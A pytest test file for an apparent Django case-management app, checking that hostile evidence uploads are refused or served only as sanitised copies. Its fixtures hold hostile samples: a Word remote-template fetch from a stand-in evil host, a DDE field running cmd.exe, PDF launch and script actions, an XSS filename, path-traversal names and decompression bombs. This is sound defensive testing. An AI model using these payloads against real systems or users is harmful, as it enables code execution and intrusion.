"""Files made to do harm, sent as evidence by a browser: each is refused with its sentence, or only a clean copy is shown."""

import io
from collections.abc import Callable
from dataclasses import dataclass

import pikepdf
import pytest
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

from cases.models import EvidenceFile
from kernel import filetypes, officefiles, pdffiles, uploads
from tests.cases import files as make
from tests.cases.clamd import EICAR, Clamd
from tests.factories import CaseFactory

pytestmark = pytest.mark.django_db


# --- What a clean copy is -----------------------------------------------------------------------------------------
def is_a_picture_only(data):
    """Pillow reads it, and nothing stands in it or behind it but the picture."""
    image = Image.open(io.BytesIO(data))
    image.load()
    assert not {*image.info} & {"exif", "comment", "xmp", "icc_profile", "Comment"}
    assert not [*image.getexif()]
    assert not any(word in data for word in (b"<script", b"<html", b"PK\x03\x04", b"MZ", b"Acme", b"Exif"))
    assert data.endswith((b"\xff\xd9", make.LAST_CHUNK))


def stands_upright(data):
    """The camera lay on its side: the copy is turned, red to the right."""
    is_a_picture_only(data)
    image = Image.open(io.BytesIO(data)).convert("RGB")
    assert image.size == (48, 64)
    assert image.getpixel((40, 32))[0] > 200
    assert image.getpixel((4, 32))[2] > 200


def is_a_pdf_that_only_shows(data):
    """Nothing of it acts: no script, no program, no form that is sent, no attached file, no author."""
    with pikepdf.open(io.BytesIO(data)) as pdf:
        assert not {"/OpenAction", "/AA", "/Metadata", "/AF"} & {*pdf.Root.keys()}
        assert not pdf.attachments
        links = [one.A for one in pdf.pages[0].Annots if "/A" in one and "/S" in one.A]
        assert [str(link.URI) for link in links] == ["https://school.example/"]
        pdf.save(flat := io.BytesIO(), object_stream_mode=pikepdf.ObjectStreamMode.disable, compress_streams=False)
    for word in (
        b"JavaScript",
        b"alert",
        b"Launch",
        b"SubmitForm",
        b"cmd.exe",
        b"EmbeddedFile",
        b"xfa",
        b"MZ",
        b"Farrowby",
    ):
        assert word not in data + flat.getvalue(), word


def flat_of(data):
    """A PDF with nothing packed, as bytes to look for words in."""
    with pikepdf.open(io.BytesIO(data)) as pdf:
        pdf.save(flat := io.BytesIO(), object_stream_mode=pikepdf.ObjectStreamMode.disable, compress_streams=False)
    return data + flat.getvalue()


DOES = {
    "JavaScript": {"JS": pikepdf.String("SECRET()")},
    "Launch": {"F": pikepdf.String("SECRET.exe")},
    "SubmitForm": {"F": pikepdf.String("https://SECRET.example/")},
    "ImportData": {"F": pikepdf.String("SECRET.fdf")},
    "GoToE": {"F": pikepdf.String("SECRET.pdf")},
    "GoToR": {"F": pikepdf.String("SECRET.pdf")},
    "Rendition": {"JS": pikepdf.String("SECRET()"), "OP": 0},
    "URI": {"URI": pikepdf.String("javascript:SECRET()")},
}


@pytest.mark.parametrize("way", make.WAYS_TO_ACT)
@pytest.mark.parametrize("kind", [None, "Action", "StructElem", "Font", "Filespec"])
@pytest.mark.parametrize("does", DOES)
def test_no_action_stays_wherever_it_stands_and_whatever_it_calls_itself(does, kind, way):
    act = {"S": pikepdf.Name(f"/{does}"), **DOES[does]} | ({"Type": pikepdf.Name(f"/{kind}")} if kind else {})
    for is_apart in (False, True):
        served, note = pdffiles.cleaned(make.pdf_with_action(act, way, is_apart=is_apart))

        left = flat_of(served)
        assert b"SECRET" not in left
        assert does == "URI" or f"/{does}".encode() not in left
        assert note.startswith("Taken out of the copy: ")


@pytest.mark.parametrize("way", make.WAYS_TO_CARRY)
@pytest.mark.parametrize("kind", [None, "Filespec", "Font"])
@pytest.mark.parametrize("is_apart", [False, True])
def test_no_attached_file_stays_wherever_it_stands(is_apart, kind, way):
    served, note = pdffiles.cleaned(make.pdf_that_carries(way, kind, is_apart=is_apart))

    left = flat_of(served)
    for word in (b"SECRET", b"/EF", b"/AF", b"EmbeddedFile"):
        assert word not in left
    assert note == "Taken out of the copy: attached files."


def test_what_only_shows_stays_whatever_it_is_named():
    served, note = pdffiles.cleaned(make.pdf_with_odd_names())

    assert note == ""
    with pikepdf.open(io.BytesIO(served)) as pdf:
        page = pdf.pages[0]
        assert {*page.Resources.Font.keys()} == {"/AA", "/EF", "/AF", "/JS"}
        assert {*page.Resources.XObject.keys()} == {"/AA", "/EF", "/AF"}
        assert page.Resources.ColorSpace.AF[0] == pikepdf.Name.ICCBased
        assert str(page.Group.S) == "/Transparency"
        assert pdf.Root.PageLabels.Nums[1].S == pikepdf.Name.D
        assert pdf.Root.StructTreeRoot.K.S == pikepdf.Name.P
        assert [str(one.A.S) for one in page.Annots] == ["/GoTo", "/URI"]


def is_a_pdf_without_places(data):
    with pikepdf.open(io.BytesIO(data)) as pdf:
        image = pdf.pages[0].Resources.XObject.Im0.read_raw_bytes()
    assert b"Exif" not in data + image
    assert Image.open(io.BytesIO(image)).getpixel((3, 3))[0] > 200


def is_kept_as_sent(data):
    raise AssertionError("there is no copy of what cannot be made anew")


@dataclass(frozen=True)
class Hostile:
    """A file, the name it is sent by, and the right answer: the sentence of its refusal, or what its copy must be."""

    name: str
    data: Callable[[], bytes]
    reason: str = ""
    check: Callable[[bytes], None] = is_a_picture_only
    shown: str = ""


def plain(data):
    return lambda: data


SVG = b'<svg xmlns="http://www.w3.org/2000/svg">' + make.SCRIPT + b"</svg>"
PAGE = b"<!doctype html><html><body>" + make.SCRIPT + b"</body></html>"
SETUP = b"MZ\x90\0" + b"\0" * 60 + b"This program cannot be run in DOS mode."
REMOTE = make.relation("attachedTemplate", "https://evil.example/t.dotm")
COMMAND = (
    '<w:p><w:r><w:instrText>DDEAU</w:instrText></w:r><w:r><w:instrText>TO c:\\\\cmd.exe "/k"</w:instrText></w:r></w:p>'
)
HOSTILE = {
    "a JPEG and a packed program in one": Hostile("gate.jpg", make.jpeg_and_zip),
    "a GIF and a web page in one": Hostile("gate.gif", make.gif_and_page),
    "a web page by the name of a picture": Hostile("gate.jpg", plain(PAGE), uploads.NOT_THAT),
    "a web page": Hostile("gate.html", plain(PAGE), filetypes.HINTS["html"]),
    "a web page with a PDF in it": Hostile("gate.pdf", lambda: PAGE + make.pdf_that_acts(), uploads.NOT_THAT),
    "a web page by the name of a text": Hostile("chat.txt", plain(PAGE), uploads.NOT_THAT),
    "a picture that unpacks to 100 million points": Hostile("gate.png", make.png_bomb, uploads.TOO_LARGE),
    "a picture that says it is two thousand million wide": Hostile(
        "gate.png", lambda: make.png_of(2**31 - 1, 2**31 - 1, make.LAST_CHUNK), uploads.TOO_LARGE
    ),
    "a picture whose text unpacks to 4 MB": Hostile("gate.png", make.png_of_text, uploads.BROKEN),
    "a drawing with a script": Hostile("gate.svg", plain(SVG), filetypes.HINTS["svg"]),
    "a drawing with a script by the name of a picture": Hostile("gate.png", plain(SVG), uploads.NOT_THAT),
    "a document with macros": Hostile("letter.docm", make.docx_with_macros, filetypes.MACROS),
    "a document with macros by another name": Hostile("letter.docx", make.docx_with_macros, filetypes.MACROS),
    "a document that fetches its template": Hostile(
        "letter.docx", lambda: make.docx(relations=REMOTE), officefiles.FETCHES
    ),
    "a document whose field runs a command": Hostile(
        "letter.docx", lambda: make.docx(text=COMMAND), officefiles.FETCHES
    ),
    "a document that carries a program": Hostile(
        "letter.docx", lambda: make.docx(**{"word/embeddings/oleObject1.bin": "MZ"}), officefiles.CARRIES
    ),
    "a document that unpacks to a thousand times": Hostile("letter.docx", make.docx_bomb, officefiles.BOMB),
    "files packed together": Hostile("all.zip", lambda: make.packed({"a.jpg": make.picture()}), filetypes.PACKED),
    "a name that is a tag": Hostile(
        "<img src=x onerror=alert(1)>.jpg", make.picture, shown="_img src=x onerror=alert(1)_.jpg"
    ),
    "a name that climbs out of its folder": Hostile("../../../etc/cron.d/job.jpg", make.picture, shown="job.jpg"),
    "a name with folders of Windows": Hostile("..\\..\\windows\\win.jpg", make.picture, shown="win.jpg"),
    "a name written from right to left": Hostile(
        "gate\u202egpj.exe", plain(SETUP), filetypes.PROGRAM, shown="gategpj.exe"
    ),
    "a name that never ends": Hostile("g" * 240 + ".jpg", make.picture, shown="g" * 116 + ".jpg"),
    "a program by two ends": Hostile("gate.jpg.exe", plain(SETUP), filetypes.PROGRAM),
    "a program by the name of a picture": Hostile("gate.exe.jpg", plain(SETUP), uploads.NOT_THAT),
    "a picture that tells where it was taken": Hostile(
        "home.jpg", lambda: make.picture(exif=make.exif_of_home(6)), check=stands_upright
    ),
    "a telephone's picture that tells where it was taken": Hostile(
        "home.heic", lambda: make.picture("HEIF", exif=make.exif_of_home())
    ),
    "a picture cut short": Hostile("gate.jpg", lambda: make.picture(size=(900, 900))[:4000], uploads.BROKEN),
    "a file without a byte": Hostile("gate.jpg", plain(b""), filetypes.EMPTY),
    "a file without an end": Hostile("gate", make.picture, filetypes.NO_END),
    "a PDF that acts": Hostile("letter.pdf", make.pdf_that_acts, check=is_a_pdf_that_only_shows),
    "a PDF that is locked": Hostile("letter.pdf", make.pdf_with_password, pdffiles.LOCKED),
    "a PDF whose picture tells where it was taken": Hostile(
        "scan.pdf", make.pdf_of_photo, check=is_a_pdf_without_places
    ),
    "a PDF with a picture of ten thousand million points": Hostile("scan.pdf", make.pdf_of_huge_picture, pdffiles.HUGE),
    "a PDF that is none": Hostile("scan.pdf", plain(b"%PDF-1.7\n" + b"\0" * 500), pdffiles.DAMAGED),
}


@pytest.fixture
def case(school, clock):
    return CaseFactory(school=school)


def send(client, case, *files):
    sent = {"kind": "photo", "description": "What was sent to us", "is_fit": "on", "files": [*files]}
    return client.post(f"/cases/{case.reference}/evidence/add/", sent)


@pytest.mark.parametrize("what", HOSTILE)
def test_a_hostile_file_is_refused_or_only_its_clean_copy_is_shown(client_of, head, case, run_jobs, what):
    hostile, client = HOSTILE[what], client_of(head)
    data = hostile.data()

    page = send(client, case, SimpleUploadedFile(hostile.name, data)).url
    run_jobs(raising=True)

    file = EvidenceFile.objects.get()
    assert file.name == (hostile.shown or hostile.name)
    text = client.get(page).content.decode()
    if hostile.reason:
        assert (file.state, file.note) == ("refused", hostile.reason)
        assert not file.original
        assert "Not kept" in text
        for place in ("", "original/"):
            assert client.get(f"/cases/{case.reference}/files/{file.pk}/{place}").status_code == 404
        return
    assert file.state == "cleaned"
    assert "<img src=x" not in text
    answer = client.get(f"/cases/{case.reference}/files/{file.pk}/")
    hostile.check(b"".join(answer.streaming_content))
    original = client.get(f"/cases/{case.reference}/files/{file.pk}/original/")
    assert b"".join(original.streaming_content) == data
    assert original["Content-Type"] == "application/octet-stream"
    for one in (answer, original):
        assert one["Content-Disposition"].startswith("attachment")
        assert one["X-Content-Type-Options"] == "nosniff"
        assert "sandbox" in one["Content-Security-Policy"]


def test_the_set_has_what_it_must_have():
    assert len(HOSTILE) >= 20


def test_nothing_of_a_refused_file_stays_on_the_disk(client_of, head, case, run_jobs):
    send(client_of(head), case, SimpleUploadedFile("a.png", SVG), SimpleUploadedFile("b.exe", SETUP))
    stored = EvidenceFile.objects.get(name="a.png").original.name
    assert default_storage.exists(stored)

    run_jobs(raising=True)

    assert not default_storage.exists(stored)


def test_a_stored_file_has_no_end_that_starts_anything(client_of, head, case):
    send(client_of(head), case, SimpleUploadedFile("../gate.jpg", make.picture()))

    assert EvidenceFile.objects.get().original.name.rpartition("/")[2].isalnum()


def test_a_virus_is_refused(client_of, head, case, run_jobs, settings, tmp_path):
    clamd = Clamd(str(tmp_path / "clamd"))
    settings.CLAMD_URL = clamd.url
    page = send(client_of(head), case, SimpleUploadedFile("note.txt", EICAR)).url
    run_jobs(raising=True)
    clamd.close()

    file = EvidenceFile.objects.get()
    assert (file.state, bool(file.original)) == ("refused", False)
    assert "The virus scanner found something" in client_of(head).get(page).content.decode()
